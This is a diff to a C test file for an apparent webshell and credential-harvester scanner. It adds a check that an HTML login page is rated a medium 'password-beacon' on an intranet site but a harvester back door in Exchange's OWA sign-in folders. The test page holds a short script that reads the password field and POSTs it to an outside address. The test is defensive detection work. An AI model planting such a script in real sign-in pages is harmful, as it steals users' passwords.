@@ -166,8 +166,16 @@ static void one_sample(const char *family, const char *name,
 	bool clean = strcmp(family, "clean") == 0;
 	bool config = strstr(name, ".config") != NULL, whole;
 
-	/* Off the known drop folders: only content can tell. */
-	snprintf(rel, sizeof rel, "inetpub/sites/intranet/scripts/%s", name);
+	/* Off the known drop folders: only content can tell. Browser script
+	 * (.js) is read where IIS serves Exchange's sign-in pages. */
+	if (strstr(name, ".js"))
+		snprintf(rel, sizeof rel,
+		         "Program Files/Microsoft/Exchange Server/V15/FrontEnd/"
+		         "HttpProxy/owa/auth/15.2.1118/scripts/premium/%s",
+		         name);
+	else
+		snprintf(rel, sizeof rel, "inetpub/sites/intranet/scripts/%s",
+		         name);
 	snprintf(what, sizeof what, "%s/%s", family, name);
 	if (clean) {
 		expect_clean(what, rel, b);
@@ -225,6 +233,29 @@ static void one_sample(const char *family, const char *name,
 	}
 }
 
+/* A keylogger in browser script is a harvester in Exchange's sign-in
+ * folders; in another site's page it is a lead (password-beacon,
+ * medium), not a back door. */
+static void beacon_elsewhere(void)
+{
+	static const char page[] =
+	    "<html><body><form><input id=\"password\" type=\"password\">"
+	    "</form><script>function go(){var p=document.getElementById("
+	    "\"password\").value;var x=new XMLHttpRequest();x.open(\"POST\","
+	    "\"https://sso.example.net/api/login\");x.send(\"p=\"+p);}"
+	    "</script></body></html>";
+	const struct finding *f = hunt_bytes(
+	    "inetpub/sites/intranet/login.aspx", page, sizeof page - 1);
+
+	CHECK(f && strcmp(f->kind, "password-beacon") == 0 &&
+	      f->sev == SEV_MEDIUM && !f->backdoor);
+	f = hunt_bytes("Program Files/Microsoft/Exchange Server/V15/FrontEnd/"
+	               "HttpProxy/owa/auth/logon.aspx",
+	               page, sizeof page - 1);
+	CHECK(f && strcmp(f->kind, "webshell") == 0 && f->backdoor &&
+	      strstr(f->detail, "[harvester]"));
+}
+
 int main(void)
 {
 	static const char *const families[] = {
@@ -239,6 +270,7 @@ int main(void)
 		fprintf(stderr, "rules did not compile\n");
 		return 1;
 	}
+	beacon_elsewhere();
 	for (k = 0; families[k]; k++) {
 		DIR *d;
 		struct dirent *de;
